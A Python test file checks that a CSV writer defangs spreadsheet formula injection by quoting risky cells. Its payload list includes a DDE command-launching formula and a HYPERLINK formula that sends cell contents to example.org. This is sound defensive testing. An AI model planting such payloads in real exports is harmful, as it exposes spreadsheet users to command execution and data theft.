"""CSV that spreadsheets do not run, and that reads back as it was but for that."""

import ast
import csv
import io

import pandas as pd
import pytest

from core.drawing.csv import csv_text
from tests.sources import files_of, nodes_of

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://example.org?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-1+2",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
    "=",
    "-",
    "--",
    "-L1H2",
]


@pytest.mark.thorough
@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_a_text_that_a_spreadsheet_would_run_is_only_text(text):
    ((cell,),) = list(csv.reader(io.StringIO(csv_text(pd.DataFrame({"note": [text]})), newline="")))[1:]
    assert cell == f"'{text}".replace("\r", "\n")
    header = csv_text(pd.DataFrame({text: ["x"]}))
    assert next(csv.reader(io.StringIO(header, newline="")))[0] == cell


@pytest.mark.parametrize("text", ["-0.5", "+1e-3", "-inf", "plain", "a=b", "L1H2", "", "'quoted", "naïve"])
def test_any_other_text_stays(text):
    ((cell,),) = list(csv.reader(io.StringIO(csv_text(pd.DataFrame({"note": [text]})))))[1:] or [[""]]
    assert cell == text


def test_numbers_lists_and_what_is_not_there_stay():
    rows = pd.DataFrame({"value": [-0.25, None], "any": [-3, "=x"], "list": [["-a"], None], "truth": [True, False]})
    before = rows.copy(deep=True)
    assert csv_text(rows).splitlines() == ["value,any,list,truth", "-0.25,-3,['-a'],True", ",'=x,,False"]
    pd.testing.assert_frame_equal(rows, before)


def test_columns_of_one_name_are_each_written():
    assert csv_text(pd.DataFrame([["=a", "-b"]], columns=["x", "x"])).splitlines() == ["x,x", "'=a,'-b"]


@pytest.mark.thorough
def test_no_other_place_writes_csv():
    calls = [
        file.name
        for file in files_of("core", "pages")
        for node in nodes_of(file)
        if isinstance(node, ast.Attribute) and node.attr == "to_csv"
    ]
    assert calls == ["csv.py"]


def test_a_return_begins_no_row_of_its_own():
    lines = list(csv.reader(io.StringIO(csv_text(pd.DataFrame({"note": ["plain\r=1+1", "plain\r\n-b"]})), newline="")))
    assert lines == [["note"], ["plain\n=1+1"], ["plain\n-b"]]
